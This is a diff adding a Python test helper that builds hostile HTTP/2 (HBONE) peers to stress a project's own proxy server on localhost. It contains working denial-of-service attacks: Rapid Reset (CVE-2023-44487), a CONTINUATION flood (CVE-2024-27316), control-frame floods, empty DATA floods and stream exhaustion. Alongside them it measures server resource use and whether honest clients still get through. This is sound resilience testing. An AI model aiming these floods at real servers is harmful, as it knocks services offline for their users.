@@ -1,0 +1,272 @@
+"""Hostile HBONE peers for the attack tests and `benchmarks/load/attacks.py`.
+
+The attacker holds a valid client certificate (authentication is not what is
+tested) and writes raw HTTP/2 frames (tests.helpers.h2raw) over real TLS 1.3.
+`HonestClient` opens CONNECTs through shoal's own pool meanwhile, from
+another thread, and counts what succeeded. `usage(pid)` reads a server
+process's RSS, fds and CPU time from /proc.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import socket
+import socketserver
+import ssl
+import threading
+import time
+from dataclasses import dataclass, field
+
+import hyperframe.frame as hf
+
+from tests.helpers.h2raw import RawFrames, parse_frames
+
+ENHANCE_YOUR_CALM = 0xB
+REFUSED_STREAM = 0x7
+
+
+@dataclass
+class Usage:
+    rss_kib: int
+    fds: int
+    cpu_s: float
+
+
+def usage(pid: int) -> Usage:
+    with open(f"/proc/{pid}/status") as f:
+        rss = next(int(line.split()[1]) for line in f if line.startswith("VmRSS:"))
+    fds = len(os.listdir(f"/proc/{pid}/fd"))
+    with open(f"/proc/{pid}/stat") as f:
+        parts = f.read().rsplit(")", 1)[1].split()
+    tick = os.sysconf("SC_CLK_TCK")
+    return Usage(rss_kib=rss, fds=fds, cpu_s=(int(parts[11]) + int(parts[12])) / tick)
+
+
+class CountingEcho:
+    """A threaded TCP echo server that counts the connections it accepted."""
+
+    def __init__(self) -> None:
+        outer = self
+        self.accepted = 0
+
+        class Handler(socketserver.BaseRequestHandler):
+            def handle(self) -> None:
+                outer.accepted += 1
+                try:
+                    while data := self.request.recv(65536):
+                        self.request.sendall(data)
+                except OSError:
+                    pass
+
+        socketserver.ThreadingTCPServer.allow_reuse_address = True
+        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
+        self.server.daemon_threads = True
+        self.port = self.server.server_address[1]
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def tls_context(cert: str, key: str, ca: str) -> ssl.SSLContext:
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
+    ctx.check_hostname = False
+    ctx.load_verify_locations(ca)
+    ctx.load_cert_chain(cert, key)
+    ctx.set_alpn_protocols(["h2"])
+    return ctx
+
+
+def connect(port: int, ctx: ssl.SSLContext, timeout: float = 10.0) -> ssl.SSLSocket:
+    raw = socket.create_connection(("127.0.0.1", port), timeout=timeout)
+    return ctx.wrap_socket(raw)
+
+
+class Attack:
+    """One attacker connection: a reader thread keeps all the server sent."""
+
+    def __init__(self, port: int, ctx: ssl.SSLContext) -> None:
+        self.sock = connect(port, ctx)
+        self.frames = RawFrames()
+        self.received = bytearray()
+        self.closed = threading.Event()
+        self._reader = threading.Thread(target=self._read, daemon=True)
+        self._reader.start()
+        self.send(self.frames.preface())
+
+    def _read(self) -> None:
+        try:
+            while data := self.sock.recv(65536):
+                self.received += data
+        except (OSError, ssl.SSLError):
+            pass
+        self.closed.set()
+
+    def send(self, data: bytes) -> bool:
+        """False once the server has closed the connection."""
+        try:
+            self.sock.sendall(data)
+            return True
+        except (OSError, ssl.SSLError):
+            return False
+
+    def send_all(self, chunks, *, stop_when_closed: bool = True) -> int:
+        """Send each chunk until the server closes; returns how many went."""
+        sent = 0
+        for chunk in chunks:
+            if (stop_when_closed and self.closed.is_set()) or not self.send(chunk):
+                break
+            sent += 1
+        return sent
+
+    def wait_closed(self, timeout: float = 10.0) -> bool:
+        return self.closed.wait(timeout)
+
+    def parsed(self) -> list:
+        return parse_frames(bytes(self.received))
+
+    def goaway(self) -> int | None:
+        for f in self.parsed():
+            if isinstance(f, hf.GoAwayFrame):
+                return f.error_code
+        return None
+
+    def close(self) -> None:
+        try:
+            self.sock.close()
+        except OSError:
+            pass
+
+
+# -- the attacks: each returns the Attack (its connection) when done ----------
+
+def rapid_reset(a: Attack, authority: str, pairs: int = 10_000) -> Attack:
+    """CVE-2023-44487: HEADERS + RST_STREAM pairs as fast as TLS takes them."""
+    f = a.frames
+    batch = []
+    for _ in range(pairs):
+        sid = f.new_id()
+        batch.append(f.headers(sid, authority=authority) + f.rst(sid))
+    a.send_all(b"".join(batch[i:i + 500]) for i in range(0, pairs, 500))
+    return a
+
+
+def continuation_flood(a: Attack, authority: str, frames: int = 67,
+                       size: int = 1024 * 1024) -> Attack:
+    """CVE-2024-27316: one header block that never ends, 1 MiB per frame."""
+    f = a.frames
+    sid = f.new_id()
+    a.send(f.headers(sid, end_headers=False, authority=authority))
+    body = b"\x00" * size
+    a.send_all(f.continuation(sid, body) for _ in range(frames))
+    return a
+
+
+def control_flood(a: Attack, kind: str, frames: int = 30_000) -> Attack:
+    """PING / SETTINGS / WINDOW_UPDATE floods, 100 frames per write."""
+    f = a.frames
+    one = {"ping": f.ping(), "settings": f.settings(),
+           "window_update": f.window_update(0, 1)}[kind]
+    a.send_all(one * 100 for _ in range(frames // 100))
+    return a
+
+
+def empty_data_flood(a: Attack, authority: str, frames: int = 30_000) -> Attack:
+    f = a.frames
+    sid = f.new_id()
+    a.send(f.headers(sid, authority=authority))
+    a.send_all(f.data(sid, b"") * 100 for _ in range(frames // 100))
+    return a
+
+
+def too_many_streams(a: Attack, authority: str, limit: int = 200,
+                     extra: int = 50) -> tuple[Attack, list[int]]:
+    """Open `limit` tunnels, wait for their 200s, then `extra` more."""
+    f = a.frames
+    ok = [f.new_id() for _ in range(limit)]
+    a.send(b"".join(f.headers(sid, authority=authority) for sid in ok))
+    _wait(lambda: len(_responses(a)) >= limit, 20)
+    over = [f.new_id() for _ in range(extra)]
+    a.send(b"".join(f.headers(sid, authority=authority) for sid in over))
+    _wait(lambda: len(refused(a)) >= extra or a.closed.is_set(), 20)
+    return a, ok
+
+
+def _responses(a: Attack) -> list:
+    return [fr for fr in a.parsed() if isinstance(fr, hf.HeadersFrame)]
+
+
+def refused(a: Attack) -> list[int]:
+    return [fr.stream_id for fr in a.parsed()
+            if isinstance(fr, hf.RstStreamFrame) and fr.error_code == REFUSED_STREAM]
+
+
+def echo_on(a: Attack, sid: int, payload: bytes = b"still alive", timeout: float = 10) -> bool:
+    """DATA on an open tunnel comes back as DATA (the connection survived)."""
+    a.send(a.frames.data(sid, payload))
+    return _wait(lambda: any(isinstance(fr, hf.DataFrame) and fr.stream_id == sid
+                             and payload in bytes(fr.data) for fr in a.parsed()), timeout)
+
+
+def _wait(cond, timeout: float) -> bool:
+    end = time.monotonic() + timeout
+    while time.monotonic() < end:
+        if cond():
+            return True
+        time.sleep(0.02)
+    return cond()
+
+
+@dataclass
+class HonestClient:
+    """CONNECT + one echo round trip every `interval`, through shoal's pool
+    (a new HBONE connection each time, so handshakes are tested too)."""
+
+    port: int
+    client_cert: object                # core.identity WorkloadCert
+    server_id: str
+    authority: str
+    interval: float = 0.05
+    ok: int = 0
+    failed: list = field(default_factory=list)
+
+    def __post_init__(self) -> None:
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=lambda: asyncio.run(self._run()), daemon=True)
+
+    def start(self) -> "HonestClient":
+        self._thread.start()
+        return self
+
+    def stop(self) -> None:
+        self._stop.set()
+        self._thread.join(30)
+
+    async def once(self) -> None:
+        from shoal.core.hbone.pool import HbonePool
+        from shoal.core.identity.tls import client_context
+        ctx = client_context(self.client_cert)
+        pool = HbonePool(lambda _src: ctx)
+        try:
+            stream = await asyncio.wait_for(pool.open(
+                src=self.client_cert.identity, dst_identities=(self.server_id,),
+                address=("127.0.0.1", self.port), authority=self.authority), 10)
+            await stream.write(b"ping")
+            got = await asyncio.wait_for(stream.read(), 10)
+            assert got == b"ping", got
+            stream.close()
+            self.ok += 1
+        except Exception as e:          # recorded, asserted by the test
+            self.failed.append(repr(e))
+        finally:
+            await pool.close()
+
+    async def _run(self) -> None:
+        while not self._stop.is_set():
+            await self.once()
+            await asyncio.sleep(self.interval)
+        await self.once()               # and once more after the attack
